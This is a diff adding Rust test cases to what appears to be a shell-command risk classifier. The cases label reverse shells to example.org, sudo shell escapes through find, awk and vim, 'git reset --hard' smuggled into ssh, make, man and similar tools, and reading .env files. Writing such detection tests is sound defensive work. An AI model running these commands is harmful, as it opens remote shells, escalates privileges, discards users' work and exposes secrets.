@@ -71,6 +71,21 @@ fn kinds() {
         ("systemd-run --on-calendar=daily ls", "persist"),
         ("ssh db ls", "network"),
         ("ssh -o ProxyCommand='git reset --hard' db", "git-discard network"),
+        ("mknod p p; sh < p | nc example.org 9 > p", "write read run-unseen reverse-shell network overwrite"),
+        ("zsh -c 'ztcp example.org 9; zsh <&$REPLY >&$REPLY'", "network reverse-shell run-unseen"),
+        ("xterm -display 192.0.2.1:1", "reverse-shell"),
+        ("capsh -- -c 'git reset --hard'", "git-discard"),
+        ("capsh --print", ""),
+        ("env -S bash -c 'git reset --hard'", "git-discard"),
+        ("env -vS 'git reset --hard'", "git-discard"),
+        ("make SHELL='git reset --hard'", "git-discard"),
+        ("make SHELL=/bin/bash CC=clang", ""),
+        ("make --eval='$(shell git reset --hard)'", "git-discard"),
+        ("man -P 'git reset --hard' ls", "git-discard"),
+        ("man -P less ls", ""),
+        ("vagrant ssh -c 'git reset --hard'", "git-discard"),
+        ("salt '*' cmd.run 'git reset --hard'", "git-discard"),
+        ("tmux send-keys 'git reset --hard' ENTER", "git-discard"),
         ("mkfifo p; cat p | sh -i | nc example.org 9 > p", "write read reverse-shell network overwrite"),
     ] {
         assert_eq!(kinds_of(command), kinds, "{command}");
@@ -79,9 +94,20 @@ fn kinds() {
 
 #[test]
 fn a_root_shell_is_more_than_a_command_as_root() {
-    for command in ["sudo -i", "sudo su -", "sudo bash", "su", "doas -s", "nsenter -t 1 -a sh"] {
+    for command in [
+        "sudo -i",
+        "sudo su -",
+        "sudo bash",
+        "su",
+        "doas -s",
+        "nsenter -t 1 -a sh",
+        "sudo find . -exec sh ';'",
+        "sudo awk 'BEGIN { system(\"/bin/sh\") }'",
+        "sudo vim -c ':!/bin/sh'",
+    ] {
         assert!(effects_of(command).contains("escalate - force"), "{command}");
     }
+    assert!(!effects_of("sudo docker exec -it web bash").contains("force"));
     for command in ["sudo ls", "sudo bash -c ls", "sudo -u web -i", "su web", "nsenter -t 99 -n ip a"] {
         assert!(effects_of(command).starts_with("escalate - - "), "{command}");
     }
@@ -99,6 +125,8 @@ fn what_find_finds() {
         ("find . \\( -name a -o -name b \\) -delete", "inside"),
         ("find . -type d -empty -delete", "inside"),
         ("find . -name .git -exec rm -r {} +", "vcs"),
+        ("find . -path './.git/*' -delete", "vcs"),
+        ("find . -path ./.git -prune -o -name '*.o' -delete", "inside"),
         ("find . -name '*.o' | xargs rm", "inside"),
         ("find /etc -size +1k -delete", "system"),
         ("find /tmp -mtime +3 -delete", "temp"),
@@ -109,6 +137,7 @@ fn what_find_finds() {
         assert!(effects.starts_with(&format!("delete {place} ")), "{command}\n{effects}");
     }
     assert_eq!(kinds_of("find . -name .env -exec cat {} ';'"), "read-secret");
+    assert_eq!(kinds_of("find . -name '.env*' | xargs cat"), "read-secret");
     assert_eq!(kinds_of("find . -name '*.rs' -print"), "");
 }
 
